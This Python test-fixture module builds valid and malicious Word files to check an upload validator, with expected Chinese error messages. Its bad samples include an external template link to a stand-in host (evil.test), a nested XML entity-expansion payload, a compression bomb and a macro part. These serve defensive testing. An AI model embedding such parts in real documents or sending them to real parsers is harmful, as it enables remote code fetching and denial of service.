"""Word files as an office might upload them, good ones and ones that must not be used."""

import io
import zipfile

import docx


def word(*lines: str, header: str = "") -> bytes:
    """A Word file of these paragraphs."""
    file = docx.Document()
    for line in lines:
        file.add_paragraph(line)
    if header:
        file.sections[0].header.paragraphs[0].text = header
    body = io.BytesIO()
    file.save(body)
    return body.getvalue()


def torn(*runs: str) -> bytes:
    """A Word file whose one paragraph is torn into runs, each with a look of its own."""
    file = docx.Document()
    paragraph = file.add_paragraph()
    for number, text in enumerate(runs):
        paragraph.add_run(text).bold = number % 2 == 0
    body = io.BytesIO()
    file.save(body)
    return body.getvalue()


def texts(body: bytes) -> list[str]:
    """The paragraphs of a Word file."""
    return [one.text for one in docx.Document(io.BytesIO(body)).paragraphs]


def with_part(name: str, content: bytes, *, instead: bool = False) -> bytes:
    """A good Word file with one part more, or one part replaced."""
    old, new = zipfile.ZipFile(io.BytesIO(word("{期间}"))), io.BytesIO()
    with zipfile.ZipFile(new, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in old.infolist():
            if not (instead and info.filename == name):
                archive.writestr(info.filename, old.read(info))
        archive.writestr(name, content)
    return new.getvalue()


_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OUTSIDE = (
    f'<Relationships xmlns="{_RELS}"><Relationship Id="rId1" TargetMode="External" '
    f'Type="{_KIND}/attachedTemplate" Target="http://evil.test/a.dotm"/></Relationships>'
).encode()
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&b;'
    b"</w:t></w:r></w:p></w:body></w:document>"
)
#: What is wrong -> the file, and what is said of it.
BAD: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "空文件"),
    "blank": (b"  \n ", "空文件"),
    "large": (b"PK\x03\x04" + b"x" * 5_000_001, "超过 5 MB"),
    "password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "加了密码"),
    "text": ("本期新发现线索".encode(), "不是 Word 文档"),
    "pdf": (b"%PDF-1.7 ...", "不是 Word 文档"),
    "cut": (word("{期间}")[:-200], "已损坏"),
    "garbage": (b"PK\x03\x04garbage", "已损坏"),
    "no word": (with_part("word/document.xml", b"<a/>", instead=True), "没有占位符"),
    "bomb": (with_part("word/media/a.xml", b"<a>" + b" " * 60_000_000 + b"</a>"), "压缩炸弹"),
    "entities": (with_part("word/document.xml", ENTITIES, instead=True), "文档类型声明"),
    "macros": (with_part("word/vbaProject.bin", b"x"), "含有宏"),
    "outside": (with_part("word/_rels/settings.xml.rels", OUTSIDE, instead=True), "外部的文件"),
    "no placeholder": (word("本期共发现线索　条"), "没有占位符"),
    "unknown": (word("共发现{发现数}条，{没有的}"), "{发现数}、{没有的} 不是可用的占位符"),
    "inline cases": (word("典型案例如下：{典型案例}"), "须单独成段"),
}
